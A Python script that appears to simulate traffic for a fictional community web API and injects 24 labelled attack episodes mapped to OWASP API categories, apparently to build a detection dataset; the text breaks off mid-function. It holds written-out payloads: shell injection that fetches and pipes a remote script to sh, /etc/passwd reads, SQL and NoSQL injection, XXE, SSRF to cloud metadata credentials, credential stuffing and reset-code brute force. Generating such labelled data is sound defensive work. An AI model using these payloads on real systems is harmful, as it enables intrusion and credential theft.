            yield r.uniform(3, 40); x = yield from w.req(cl, 'GET', f'/api/posts/{i}'); yield r.uniform(.1, 3); yield from w.req(cl, 'GET', f'/api/posts/{i}/comments')
            if ok(x) and r.random() < .4: yield r.uniform(2, 12); yield from w.req(cl, 'GET', f'/api/users/{x.body["post"]["author"]}')
        if files:
            x = yield from w.req(cl, 'GET', '/api/files?all=1&page=1&limit=30')
            for f in [f for f in x.body['files'] if f['createdAt'] > iso(S.now - DAY)] if ok(x) else []:
                yield r.uniform(3, 25); yield from w.req(cl, 'GET', f'/api/files/{f["_id"]}')
                yield from w.req(cl, 'GET', f'/api/files/{f["_id"]}/download')
    for d in range(days):
        S.spawn(at(d, r.gauss(9, .8)), modday(mod, 'D-mod'))
        if d % 3 == 1: S.spawn(at(d, r.gauss(20, 1)), modday(mod2, None, False))
        if d >= 6: S.spawn(at(d, r.gauss(18, 1)), modday(M[27], 'D-newmod', False))
    def adm(promote=False):
        cl = w.client(admin)
        if not (yield from w.sign(cl)): return
        yield from w.req(cl, 'GET', '/api/admin/stats'); yield r.uniform(4, 20); yield from w.req(cl, 'GET', '/api/admin/users?page=1&limit=50')
        for h in r.sample(['mongo', 'mail.loft.internal', 'nas-2.loft.internal', '10.30.5.9'], r.randint(0, 2)): yield r.uniform(3, 20); yield from w.req(cl, 'POST', '/api/admin/ping', js=dict(host=h))
        if promote:
            yield 30; yield from w.req(cl, 'PUT', f'/api/admin/users/{M[27]["n"]}/role', js=dict(role='moderator'), dc='D-newmod')
            for dv in M[27]['devs']: dv['exp'] = 0
        for P in w.people:
            if P['u'].get('banned') and P['u']['username'] in app.users: yield 10; yield from w.req(cl, 'POST', f'/api/admin/users/{P["n"]}/ban', js=dict(banned=False))
    for d in range(days):
        if d in (0, 1, 2, 3, 4, 7, 8, 9, 10, 11) and r.random() < .8: S.spawn(at(d, r.uniform(9, 17)), adm())
    S.spawn(at(6, 11), adm(True))
    # --- occasions
    def question(P, i):
        cl = w.client(P); cl.dc = 'D-peak'
        if (yield from w.sign(cl)):
            for _ in range(r.randint(1, 3)):
                yield from w.req(cl, 'GET', f'/api/posts/{i}'); yield from w.req(cl, 'GET', f'/api/posts/{i}/comments'); yield r.uniform(20, 300)
                if r.random() < .4: yield from w.req(cl, 'POST', f'/api/posts/{i}/comments', js=dict(text=w.text(2)))
                yield r.uniform(10, 200)
    ama = app.new_post(st - 100, mod['n'], 'Saturday evening: ask Mara anything', 'Saturday 19-21h, here.', ['studio'])['_id']
    for P in M * 2:
        if r.random() < .75: S.spawn(at(5, 19 + r.betavariate(1.3, 2) * 2), question(P, ama))
    def pwday(P):
        cl = w.client(P); cl.dc = 'D-pwday'
        if not (yield from w.sign(cl)): return
        old, new = P['know'], f'{r.choice(WORDS).title()}{r.randint(10, 999)}{r.choice("!?.#")}'
        if r.random() < .3: yield from w.req(cl, 'PUT', f'/api/users/{P["n"]}/password', js=dict(oldPassword=old[:-1], password=new)); yield r.uniform(4, 15)
        if ok((yield from w.req(cl, 'PUT', f'/api/users/{P["n"]}/password', js=dict(oldPassword=old, password=new)))):
            P['know'] = new; yield r.uniform(2, 9)
            for _ in range(r.choice([0, 0, 1, 2])): w.login(cl, pw=old); yield r.uniform(4, 20)
            w.login(cl)
    for P in M[:44]:
        if P['n'] != M[38]['n'] and r.random() < .8: S.spawn(at(8, r.gauss(13, 3.5) % 24), pwday(P))
    def roam():
        P = M[18]
        for d, ip in ((5, '151.38.22.9'), (6, '151.38.97.141'), (7, '93.66.14.80')):
            yield max(1, at(d, 8) - S.now); P['ip'], P['dc'] = ip, 'D-roam'
            for _ in range(2): yield r.uniform(1, 4) * HOUR; yield from w.session(P)
        yield max(1, at(8, 6) - S.now); P['ip'] = P['dc'] = None
    S.spawn(at(5, 7), roam())
    def family(P):
        cl = w.client(P); cl.dc = 'D-share'
        if (yield from w.sign(cl)): yield from w.req(cl, 'GET', f'/api/files/{gift["_id"]}'); yield 2; yield from w.req(cl, 'GET', f'/api/files/{gift["_id"]}/download')
    for i in (23, 24, 26):
        for d in range(days):
            for h in r.sample([8, 12, 17, 19], r.choice([1, 1, 2])): S.spawn(at(d, h + r.random()), family(M[i]))
    def update(P, dv):
        dv['new'] = True; dv['ua'] = re.sub(r'LoftApp/[\d.]+', 'LoftApp/1.9.0', dv['ua'])
        yield from w.session(P, 2, 'D-app', dv)
    for P in M:
        for dv in P['devs']:
            if dv['kind'] != 'web' and r.random() < .9: S.spawn(at(6, 7) + r.expovariate(1 / (14 * HOUR)), update(P, dv))
    for i in (28, 29, 31):                                                  # a new phone
        M[i]['devs'].append(w.device('android'))
    def importer(P):
        cl = w.client(P, next((d for d in P['devs'] if d['kind'] == 'web'), None)); cl.dc = 'D-import'
        if not (yield from w.sign(cl)): return
        for k in range(45):
            items = ''.join(f'<post><title>{r.choice(ADJ).title()} {r.choice(NOUN)} &amp; more</title><body>{r.choice(["<![CDATA[<p>" + w.text(3) + "</p><script>track(1)</script>]]>", w.text(3).replace("&", "&amp;").replace("<", "&lt;"), "&lt;b&gt;SELECT * FROM glazes WHERE id=1&lt;/b&gt; was my old page"])}</body></post>' for _ in range(r.randint(1, 4)))
            body = f'<?xml version="1.0" encoding="utf-8"?>\n<blog owner="{P["n"]}" page="{k}">{items}</blog>'
            if k in (3, 17): body = body.replace('</post></blog>', '</blog>')
            yield from w.req(cl, 'POST', '/api/import', body=body.encode(), ct='application/xml'); yield r.uniform(8, 60)
    S.spawn(at(4, 15), importer(M[32]))
    for d, i in ((1, 33), (3, 34), (6, 35), (9, 36)):
        def small(P=M[i]):
            cl = w.client(P)
            if (yield from w.sign(cl)):
                for _ in range(r.randint(1, 2)):
                    yield 5
                    yield from w.req(cl, 'POST', '/api/import', body=f'<?xml version="1.0"?><blog owner="{P["n"]}"><post><title>{w.title()[:30].replace("&", "and")}</title><body>imported</body></post></blog>'.encode(), ct='application/xml')
        S.spawn(at(d, r.uniform(10, 21)), small())
    def export(P):
        cl = w.client(P, dict(w.device('android'), ua='axios/1.6.7')); cl.dc, cl.ip = 'D-export', P['home']
        w.login(cl)
        for kind, a in (('notes', ''), ('files', ''), ('messages', 'box=in&')):
            pg = 1
            while True:
                x = yield from w.req(cl, 'GET', f'/api/{kind}?{a}page={pg}&limit=50')
                for o in x.body[kind]: yield r.uniform(.2, .6); yield from w.req(cl, 'GET', f'/api/{kind}/{o["_id"]}' + ('/download' if kind == 'files' else ''))
                pg += 1
                if pg > x.body['pages']: break
    S.spawn(at(10, 19.4), export(M[19]))
    def zap():
        cl = Client('10.30.5.44', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 loft-secops-zap', None, dc='D-scan')
        for p in ['/', '/robots.txt', '/sitemap.xml', '/api-docs', '/api/posts', '/api/users', '/api/me', '/.env', '/.git/config', '/api/posts?page=1', '/api/health', '/server-status', '/api/notes', '/api/files', '/api/events', '/swagger.json'] + [f'/api/{a}' for a in NOUN] + [f'/api/posts?tag={quote(x)}' for x in ("'", '"', "glaze'", '<script>alert(1);</script>', '../../../../etc/passwd', 'glaze AND 1=1 -- ', ';cat /etc/passwd;', '${7*7}', 'ZAP%n%s') for _ in (0, 1, 2)] + [f'/api/posts?page={quote(x)}' for x in ("1'", '-1', '1 OR 1=1', '99999999999', '<b>', '%00')]:
            S.call(cl, 'GET', p); yield r.uniform(.3, 2)
        for b in (b'{}', b'{"username":"zap","password":"zap"}', b'{"username":"zap\'","password":"zap"}', b'{"username":', b'{"username":"<x>","password":"1"}') * 3:
            S.call(cl, 'POST', '/api/login', body=b, ct='application/json'); yield r.uniform(.5, 2)
    S.spawn(at(9, 10.2), zap())
    if attacks: attack(S, app, w, M, idle, admin, mod)
    S.run(); return S


def attack(S, app, w, M, idle, admin, mod):
    r, st, at = S.rng, S.start, S.local
    def E(i, kind, owasp, scope, diff, what): S.episode(i, kind, owasp, scope, diff, what)
    E('F01', 'bola_write_account_takeover', 'API1:2023', 'actor', 'hard', "sets three other members' passwords by path name (no oldPassword), logs in as them and reads their inbox; told by the password call on a foreign name followed by that name's log-in from the same address")
    E('F02', 'bola_enumeration_slow', 'API1:2023', 'actor', 'hard', "a member opens secret notes of other members, one or two an hour in waking hours for seven days between own use; told by ever new foreign notes whose listing says type secret")
    E('F03', 'bola_enumeration', 'API1:2023', 'actor', 'medium', 'foreign files are fetched by ObjectIds guessed from the public activity list; told by runs of neighbouring ids with many 404 between hits')
    E('F04', 'stolen_token', 'API2:2023', 'actor', 'hard', "a member's token is used for a day from another network and a browser while the owner goes on with the Android app; told by one token in two programs and networks at once")
    E('F05', 'credential_stuffing_distributed', 'API2:2023', 'endpoint', 'hard', '110 addresses try two to four leaked pairs each in seven hours, mostly answered 200 success:false, two succeed; told by the many first-seen addresses and unknown names in failed log-ins')
    E('F06', 'password_spraying', 'API2:2023', 'endpoint', 'hard', 'one password against every account from five addresses, one try every ten minutes; told by one password and five addresses that walk through all names')
    E('F07', 'user_enumeration', 'API2:2023', 'actor', 'medium', 'the log-in answer tells whether a name exists: 230 names from one address in half an hour, told by the run of different names from one client')
    E('F08', 'mass_assignment_registration', 'API3:2023', 'actor', 'hard', 'a registration carries role:admin, which no other client sends; told by the field and by the role in the answer')
    E('F09', 'mass_assignment_profile', 'API3:2023', 'actor', 'hard', 'a member adds role and karma to the own profile update, logs in anew and opens the moderators\' list; told by fields the form does not have')
    E('F10', 'bfla_admin_function', 'API5:2023', 'actor', 'medium', 'the self-made administrator of F08 reads the member list and export, deletes two accounts and bans one; told by admin calls from an outside network by an account one day old')
    E('F11', 'injection_command_ping', 'API8:2023', 'actor', 'medium', 'the self-made administrator puts shell commands into the ping diagnostics; told by metacharacters and by answers with files in them')
    E('F12', 'sqlmap_scan', 'API8:2023', 'actor', 'easy', 'series of a sqlmap run (--random-agent) against tag and page of the post list; told by payload families and their pace')
    E('F13', 'injection_nosql', 'API8:2023', 'actor', 'medium', 'Mongo operators in the log-in (one succeeds) and $where/private conditions in the search bring private drafts, a draft title is read letter by letter; told by operators that honest clients never send in these places')
    E('F14', 'content_discovery', 'API9:2023', 'actor', 'easy', 'ffuf run with 260 words under /api in 15 seconds; told by the run of unknown paths')
    E('F15', 'content_discovery_nikto', 'API9:2023', 'actor', 'easy', 'nikto-like series of known bad paths and odd methods, 170 requests, browser-like user agent; told by paths that do not belong to the application')
    E('F16', 'business_logic_negative_karma', 'API6:2023', 'actor', 'hard', 'a member gives negative karma and so takes it from others, about 15 times in three days; told by the sign of the amount and the growing own balance')
    E('F17', 'brute_force_reset_code', 'API2:2023', 'actor+endpoint', 'medium', 'the 4-digit reset code of one member is tried about 400 times from six addresses in turn until it fits, then log-in; told by the failed resets of one name')
    E('F18', 'application_dos_redos', 'API4:2023', 'actor+endpoint', 'medium', 'e-mail changes with pathological strings block the event loop for up to nine seconds, whoever comes in the meantime waits too; told by the answer times')
    E('F19', 'injection_xxe_import', 'API8:2023', 'actor', 'medium', 'external entities in the XML import bring files into posts; told by DOCTYPE/ENTITY and the answer')
    E('F20', 'ssrf_avatar', 'API7:2023', 'actor', 'medium', 'the avatar address is pointed at loopback, the internal network and the metadata service; told by the hosts in the url field')
    E('F21', 'jwt_forging', 'API2:2023', 'actor', 'medium', 'changed, unsigned and guessed-secret tokens until a forged administrator token is accepted; told by tokens never issued by a log-in')
    E('F22', 'excessive_data_exposure_debug', 'API3:2023', 'actor+endpoint', 'medium', 'the undocumented debug listing with clear passwords is found and read without token from outside; told by a path nobody ever used and passwords in the answer')
    E('F23', 'response_schema_growth_pii', 'API3:2023', 'endpoint', 'medium', "from day 8 10:00 to day 10 18:00 member profiles carry everybody's e-mail, phone, birth date, address and password hash (no attacker; ordinary calls are labelled)")
    E('F24', 'scrape_multi_account', 'API6:2023', 'endpoint', 'hard', 'eight accounts made for it read 8 to 12 profiles a day each for four days; told by never posting, the alphabetical shares and each profile once a day')
    def cli(ip, ua, ep, n=None, bearer=False):
        cl = Client(ip, ua, n, ep=ep)
        cl.dev = dict(kind='ios' if bearer else 'web', ua=ua, tok=None, exp=0, etag={}, new=False); return cl
    def enter(cl, n, pw):
        x = S.call(cl, 'POST', '/api/login', js=dict(username=n, password=pw), ident=n)
        good = x.st == 200 and x.body.get('success')
        if good: cl.dev['tok'] = x.body['token']; w.arm(cl); cl.ident = n
        return good
    def outsider(n, d, h, ip, ua):
        """an account made beforehand from another address, with ordinary reading"""
        dv = dict(w.device('web'), ua=ua); P = w.person(n, u={}, vol=.3, devs=[dv], home=ip)
        S.spawn(at(d, h), w.join(P)); return P
    def run(d, h, f): S.spawn(at(d, h), f())
    def f01():
        P = A1; cl = cli('185.220.101.44', FOX, 'F01')
        for d, v in ((5, M[39]), (7, M[40]), (9, M[41])):
            yield max(1, at(d, 18.5) + r.uniform(0, 2) * HOUR - S.now); enter(cl, P['n'], P['know']); yield 9; S.call(cl, 'GET', f'/api/users/{v["n"]}')
            if d == 5:
                yield 40
                S.call(cl, 'PUT', f'/api/users/{P["n"]}/password', js=dict(password=P['know']))      # does it work without the old one?
            yield r.uniform(60, 200); S.call(cl, 'PUT', f'/api/users/{v["n"]}/password', js=dict(password='Sommer#2026')); yield r.uniform(20, 60)
            if enter(cl, v['n'], 'Sommer#2026'):
                x = S.call(cl, 'GET', '/api/messages?box=in&page=1&limit=20')
                for m in x.body['messages'][:4]: yield r.uniform(4, 20); S.call(cl, 'GET', f'/api/messages/{m["_id"]}')
                yield 12; S.call(cl, 'GET', '/api/files?page=1&limit=20')
    A1 = outsider('lena.brandt7', 2, 19, '91.203.5.66', FOX); run(5, 18, f01)
    def f02():
        P, done = M[20], []
        for d in range(4, 11):
            yield max(1, at(d, 8.5) - S.now)
            while w.hour() < 22.5 and w.hour() > 8:
                yield r.uniform(1300, 4200)
                if app.dbdown[0][0] < S.now < app.dbdown[0][1]: continue
                cl = w.client(P); cl.ep = 'F02'
                if not cl.dev['tok'] or cl.dev['exp'] < S.now: w.login(cl)
                n = r.choice([n for n in app.users if n != P['n'] and app.by['note', n]])
                x = S.call(cl, 'GET', f'/api/users/{quote(n)}/notes')
                v = [y['_id'] for y in x.body.get('notes', []) if y['type'] == 'secret' and y['_id'] not in done]
                for i in r.sample(v, min(len(v), r.choice([1, 1, 2]))): yield r.uniform(4, 40); done.append(i); S.call(cl, 'GET', f'/api/notes/{i}')
    run(4, 8, f02)
    def f03():
        cl = cli('193.32.249.17', 'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)', 'F03')
        enter(cl, A3['n'], A3['know']); ev = []
        for pg in (1, 2, 3): yield 3; ev += S.call(cl, 'GET', f'/api/activity?page={pg}&limit=100').body['activity']
        ev, hits = ev[::-1], 0
        for k, e in enumerate(ev[5:-5], 5):
            if e['type'] != 'upload' or hits > 50: continue
            lo = next((x['ref'] for x in ev[k - 1::-1] if x['ref']), None)
            sec = calendar.timegm(time.strptime(e['at'][:19], '%Y-%m-%dT%H:%M:%S'))
            for j in range(1, 15):
                yield r.uniform(.6, 2.5); i = f'{sec:08x}{lo[8:18]}{int(lo[18:], 16) + j:06x}'
                if ok(S.call(cl, 'GET', f'/api/files/{i}')): hits += 1; yield .5; S.call(cl, 'GET', f'/api/files/{i}/download'); break
    A3 = outsider('marek.dvorak', 4, 17, '46.13.80.21', CHROME); run(8, 16.2, f03)
    def f04():
        v = M[17]; dv = v['devs'][0]; cl = cli('45.155.205.86', FOX, 'F04', v['n'], True)
        for _ in range(16):
            if dv['tok']: cl.h['Authorization'] = 'Bearer ' + dv['tok']
            x = S.call(cl, 'GET', '/api/messages?box=' + r.choice(['in', 'in', 'sent']) + '&page=1&limit=20')
            for m in r.sample(x.body.get('messages', []), min(2, len(x.body.get('messages', [])))): yield r.uniform(3, 30); S.call(cl, 'GET', f'/api/messages/{m["_id"]}')
            y = r.random(); yield r.uniform(3, 30)
            if y < .4:
                x = S.call(cl, 'GET', '/api/files?page=1&limit=20')
                for f in x.body.get('files', [])[:1]: yield 4; S.call(cl, 'GET', f'/api/files/{f["_id"]}/download')
            elif y < .8:
                x = S.call(cl, 'GET', '/api/notes?page=1&limit=20')
                for f in x.body.get('notes', [])[:2]: yield 4; S.call(cl, 'GET', f'/api/notes/{f["_id"]}')
            elif v['known']: S.call(cl, 'POST', '/api/messages', js=dict(to=v['known'][0], text='Can you send me the 40 euro for the clay today? New account number follows.'))
            yield r.uniform(.4, 2.2) * HOUR
    M[17]['devs'] = [dict(w.device('android'), ua='LoftApp/1.8.2 (Android 14) okhttp/4.12.0')]
    for h in (8, 11, 13.5, 17, 19.3, 21): S.spawn(at(9, h), w.session(M[17]))
    run(9, 9, f04)
    def f05():
        fake = [x.replace('.', r.choice(['', '_', '.'])) + str(r.randint(1, 99)) for x in names(r, 260)]
        uas = BROWSERS + ['okhttp/3.12.1', 'python-requests/2.25.1']
        ips = [f'{r.choice([5, 31, 41, 78, 95, 103, 110, 117, 138, 152, 177, 181, 186, 190, 200])}.{r.randint(1, 250)}.{r.randint(1, 250)}.{r.randint(2, 250)}' for _ in range(110)]
        job = [(ip, k) for ip in ips for k in range(r.randint(2, 4))]; r.shuffle(job)
        cls = {ip: cli(ip, r.choice(uas), 'F05') for ip in ips}
        gold = {len(job) // 3: M[38], len(job) * 3 // 4: idle[0]}
        for k, (ip, _) in enumerate(job):
            cl = cls[ip]; n, pw = r.choice(fake), r.choice(WORDS) + str(r.randint(1, 2010)); y = r.random()
            n = n + '@' + r.choice(['gmail.example', 'web.example']) if y < .15 else r.choice(M)['n'] if y < .3 else n
            if k in gold: n, pw = gold[k]['n'], gold[k]['know']
            if enter(cl, n, pw): yield 3; S.call(cl, 'GET', '/api/me'); S.call(cl, 'GET', '/api/messages?box=in'); cl.ident = None
            yield r.expovariate(len(job) / (6.8 * HOUR))
    run(6, 10, f05)
    def f06():
        cls = [cli(ip, ua, 'F06') for ip, ua in zip(('104.244.73.11', '198.98.51.6', '205.185.117.90', '23.129.64.3', '107.189.10.15'), BROWSERS)]
        for k, n in enumerate(sorted(app.users)):
            if enter(cls[k % 5], n, 'Spring2026!'):
                yield 5; S.call(cls[k % 5], 'GET', '/api/me'); cls[k % 5].ident = None; cls[k % 5].dev['tok'] = None
                w.arm(cls[k % 5])
            yield r.uniform(380, 900)
    idle[1]['u']['pw'] = idle[1]['know'] = 'Spring2026!'; run(7, 7, f06)
    def f07():
        cl = cli('5.188.62.140', CHROME, 'F07')
        for n in r.sample(names(r, 200), 200) + r.sample([p['n'] for p in M], 30): S.call(cl, 'POST', '/api/login', js=dict(username=n, password='x')); yield r.uniform(4, 12)
    run(3, 15, f07); root = ('kerstin.hahn', 'Pf1ngsten-99')
    def f08():
        cl = cli('185.107.80.202', FOX, 'F08')
        S.call(cl, 'POST', '/api/register', js=dict(username=root[0], password=root[1], email='kerstin.hahn@proton.example', role='admin')); yield 15; enter(cl, *root); yield 4
        S.call(cl, 'GET', '/api/me')
    run(4, 20.3, f08)
    def f10():
        cl = cli('185.107.80.203', FOX, 'F10'); enter(cl, *root)
        for m, u, js in (('GET', '/api/admin/stats', None), ('GET', '/api/admin/users?page=1&limit=50', None), ('GET', '/api/admin/users?page=2&limit=50', None), ('GET', '/api/admin/export', None), ('DELETE', f'/api/users/{idle[2]["n"]}', None), ('DELETE', f'/api/users/{idle[3]["n"]}', None), ('POST', f'/api/admin/users/{M[37]["n"]}/ban', dict(banned=True)), ('GET', '/api/files?all=1&page=1&limit=50', None)):
            yield r.uniform(10, 90); S.call(cl, m, u, js=js)
    run(5, 11, f10)
    def f11():
        cl = cli('45.95.147.230', 'curl/8.4.0', 'F11'); enter(cl, *root)
        for h in ('127.0.0.1', '127.0.0.1; id', '127.0.0.1 && ls', '127.0.0.1 | cat /etc/passwd', '$(sleep 5)', '127.0.0.1; cat .env', '127.0.0.1;curl http://45.95.147.230:8000/s.sh|sh', '`id`', '127.0.0.1; env'):
            yield r.uniform(15, 120); S.call(cl, 'POST', '/api/admin/ping', js=dict(host=h))
    run(7, 3, f11)
    def f09():
        P = M[30]; cl = w.client(P); cl.ep = 'F09'; w.login(cl); yield 20; S.call(cl, 'PUT', f'/api/users/{P["n"]}', js=dict(displayName=P['u']['displayName'], bio='hi', role='moderator', karma=5000))
        yield 30; w.login(cl); yield 5; S.call(cl, 'GET', '/api/me'); S.call(cl, 'GET', '/api/mod/reports')
    run(6, 21.2, f09)
    def f12():
        cl = cli('89.248.165.52', 'Mozilla/5.0 (Windows; U; Windows NT 6.1; en-US) AppleWebKit/533.4 (KHTML, like Gecko) Chrome/5.0.375.99 Safari/533.4', 'F12')
        cl.h['Accept'] = '*/*'; cl.h['Cache-Control'] = 'no-cache'; rn = lambda: r.randint(1000, 9999)
        word = lambda: ''.join(r.choice('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ') for _ in range(4))
        S.call(cl, 'GET', '/api/posts?tag=glaze&page=1'); yield .4
        S.call(cl, 'GET', f'/api/posts?tag=glaze&page=1&{word()}={rn()}' + quote(" AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#"))
        for par, b in (('tag', 'glaze'), ('page', '1')):
            a, c = rn(), rn(); pay = [str(rn()), b + '.,)(")\'((.', f"{b}'{word()}<'\">{word()}"]
            for pre, suf in (('', ''), (')', f' AND ({a}={a}'), ("'", f" AND '{word()}'='{word()}"), ("')", f" AND ('{word()}'='{word()}"), ('"', f' AND "{word()}"="{word()}')):
                pay += [f'{b}{pre} AND {a}={c}{suf}', f'{b}{pre} AND {a}={a}{suf}', f'{b}{pre} AND EXTRACTVALUE({a},CONCAT(0x5c,0x7178766b71,(SELECT (ELT({a}={a},1))),0x716a7a7171)){suf}', f'{b}{pre} AND {a}=CAST((CHR(113)||CHR(120))||(SELECT (CASE WHEN ({a}={a}) THEN 1 ELSE 0 END))::text AS NUMERIC){suf}', f'{b}{pre};SELECT PG_SLEEP(5)--', f"{b}{pre};WAITFOR DELAY '0:0:5'--", f'{b}{pre} AND (SELECT {a} FROM (SELECT(SLEEP(5))){word()}){suf}', f'{b}{pre} ORDER BY 1-- {word()}', f'{b}{pre} UNION ALL SELECT NULL-- {word()}', f'{b}{pre} UNION ALL SELECT NULL,NULL-- {word()}']
            for x in pay: yield r.uniform(.15, .5); S.call(cl, 'GET', f'/api/posts?tag={quote(x, safe="")}&page=1' if par == 'tag' else f'/api/posts?tag=glaze&page={quote(x, safe="")}')
    run(5, 2.1, f12)
    def f13():
        cl = cli('194.26.135.77', CHROME, 'F13')
        for b in (dict(username='admin', password={'$ne': ''}), dict(username={'$ne': None}, password={'$gt': 'zzzz'}), dict(username={'$regex': '^svc'}, password={'$ne': 1}), dict(username={'$where': '1'}, password='x')):
            yield r.uniform(8, 40); x = S.call(cl, 'POST', '/api/login', js=b)
            if x.st == 200 and x.body.get('success'): S.call(cl, 'GET', '/api/me', h={'x-access-token': x.body['token']})
        yield 30; enter(cl, A3['n'], A3['know'])
        v = [p['author'] for p in app.posts.values() if p['private'] and "'" not in p['title']][-1]
        for f in ({'private': True}, {'private': {'$in': [True, False]}, 'author': v}, {'$where': "this.author == 'x"}, {'$where': 'sleep(3000) || true'}, {'$where': 'return true'}):
            yield r.uniform(10, 60); S.call(cl, 'POST', '/api/search', js=dict(filter=f, limit=100))
        got = ''
        want = [p for p in app.posts.values() if p['private'] and p['author'] == v and "'" not in p['title']][-1]['title']
        for k in range(40):
            c = want[len(got)] if r.random() < .3 and len(got) < len(want) else r.choice('abcdefgMQhip')
            S.call(cl, 'POST', '/api/search', js=dict(filter={'author': v, '$where': f'this.title.match(/^{re.escape(got + c)}/)'}, limit=1))
            got += c if len(got) < len(want) and c == want[len(got)] else ''; yield r.uniform(.4, 1.5)
    run(7, 19.6, f13)
    def f14():
        cl = cli('192.42.116.180', 'Fuzz Faster U Fool v2.1.0-dev', 'F14')
        pool = 'users user posts admin login logout me auth v1 v2 internal debug status health metrics config settings backup test dev docs swagger graphql files upload uploads notes groups search export import keys tokens reset password forgot logs trace env info version'.split()
        for p in (pool + [f'{a}{b}' for a in WORDS + NOUN for b in ('', 's', '.json', '-old', '_bak')])[:260]: S.call(cl, 'GET', '/api/' + p); yield r.uniform(.02, .09)
    run(2, 3.4, f14)
    def f15():
        cl = cli('80.94.95.115', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36', 'F15')
        word = lambda: ''.join(r.choice('abcdefghijkmnpqrstuvwxyzABCDEF') for _ in range(8))
        ps = ['/', '/' + word(), f'/{word()}.asp', f'/{word()}.php', f'/{word()}.cgi', f'/{word()}.jsp', f'/{word()}.htaccess', '/robots.txt', '/crossdomain.xml', '/.git/HEAD', '/.svn/entries', '/.env', '/.DS_Store', '/cgi-bin/', '/cgi-bin/test-cgi', '/cgi-bin/printenv', '/phpinfo.php', '/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000', '/server-status', '/server-info', '/manager/html', '/axis2/', '/jmx-console/', '/wp-login.php', '/wp-admin/', '/xmlrpc.php', '/phpmyadmin/', '/pma/', '/administrator/', '/?page=../../../../../../etc/passwd', '/index.php?option=com_user%27', "/<script>alert('Vulnerable')</script>", '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/..%5c..%5cwindows/win.ini', '/console', '/actuator/env', '/api-docs', '/swagger.json', '/package.json', '/server.js', '/node_modules/']
        ps += [f'/{a}.{b}' for a in ('backup', 'forum', 'loft', 'site', 'www', 'db', 'dump', '203.0.113.30') for b in ('zip', 'tar.gz', 'sql', 'bak', 'tgz', 'pem', 'jks', 'war')] + [f'/{a}/' for a in 'admin stats logs log test tests old new temp tmp private secret upload uploads data db sql conf config include includes lib src bin scripts java cgi dev beta demo portal mail webmail forum forums chat shop cart users user account accounts docs doc help info manual icons images img static css js'.split()] + [f'/{a}.php?id=1' for a in ('article', 'news', 'view', 'item', 'gallery', 'forum', 'thread', 'user')]
        for m in ('OPTIONS', 'TRACE', 'DEBUG', 'PROPFIND', 'PUT'): S.call(cl, m, '/' if m != 'PUT' else '/nikto-test.html'); yield .2
        for p in ps: S.call(cl, 'GET', p); yield r.uniform(.1, .5)
    run(4, 14.3, f15)
    def f16():
        P = M[25]
        for k in range(15):
            cl = w.client(P); cl.ep = 'F16'
            if not cl.dev['tok'] or cl.dev['exp'] < S.now: w.login(cl)
            v = r.choice([n for n, u in app.users.items() if u['karma'] > 30 and n != P['n']])
            S.call(cl, 'POST', f'/api/users/{v}/karma', js=dict(amount=-r.choice([5, 10, 15, 20, 30]), reason='thanks')); yield r.uniform(.5, 3) * HOUR if 8 < w.hour() < 22 else 9 * HOUR
    run(8, 17, f16)
    def f17():
        v = M[42]; cls = [cli(f'171.25.193.{i}', FOX, 'F17') for i in (20, 25, 77, 78, 131, 235)]
        S.call(cls[0], 'POST', '/api/password/forgot', js=dict(username=v['n']), ident=v['n']); yield 20; tries = [f'{x:04}' for x in r.sample(range(10000), 400)]
        for k, c in enumerate(tries):
            c = app.codes.get(v['n'], c) if k == 398 else c
            x = S.call(cls[k // 8 % 6], 'POST', '/api/password/reset', js=dict(username=v['n'], code=c, newPassword='Qwertz-4711'), ident=v['n'])
            yield r.uniform(1, 6)
            if ok(x):
                enter(cls[1], v['n'], 'Qwertz-4711'); yield 3; S.call(cls[1], 'GET', '/api/me')
                S.call(cls[1], 'GET', '/api/messages?box=in&page=1&limit=20'); return
    run(9, 23, f17)
    def f18():
        cl = cli('37.120.198.60', CHROME, 'F18'); enter(cl, A18['n'], A18['know'])
        for k in (6, 16, 20, 24, 26, 27, 28, 28, 29, 29, 29, 29, 29, 29, 29, 29): yield r.uniform(8, 45); S.call(cl, 'PUT', f'/api/users/{A18["n"]}/email', js=dict(email='a' * k + '!'))
    A18 = outsider('pavel.kolar', 9, 12, '90.177.14.3', CHROME); run(10, 20.2, f18)
    def f19():
        cl = cli('37.120.198.71', FOX, 'F19'); enter(cl, A3['n'], A3['know'])
        for e in ('file:///etc/hostname', 'file:///etc/passwd', 'http://37.120.198.71/x.dtd', 'file:///app/.env', 'http://169.254.169.254/latest/meta-data/', 'file:///etc/passwd'):
            yield r.uniform(20, 200)
            S.call(cl, 'POST', '/api/import', body=f'<?xml version="1.0"?>\n<!DOCTYPE blog [<!ENTITY x SYSTEM "{e}">]>\n<blog owner="{A3["n"]}"><post><title>old post</title><body>&x;</body></post></blog>'.encode(), ct='application/xml')
    run(9, 13.1, f19)
    def f20():
        P = M[34]; cl = w.client(P, P['devs'][0]); cl.ep = 'F20'; w.login(cl)
        for u in ('http://127.0.0.1/', 'http://localhost:3000/api/health', 'http://127.0.0.1:22/', 'http://10.30.5.9/', 'http://10.30.5.10:27017/', 'http://10.30.5.11:9200/_cat/indices', 'http://2130706433/', 'file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/loft-role', 'gopher://127.0.0.1:6379/_INFO'):
            yield r.uniform(15, 150); S.call(cl, 'PUT', f'/api/users/{P["n"]}/avatar', js=dict(url=u))
    run(6, 13.4, f20)
    def f21():
        cl = cli('92.118.39.44', 'python-requests/2.31.0', 'F21'); enter(cl, A3['n'], A3['know'])
        own = cl.dev['tok'] or app.issue(A3['u'], S.now)
        c = dict(username='ivo_admin', role='admin', iat=int(S.now), exp=int(S.now + DAY))
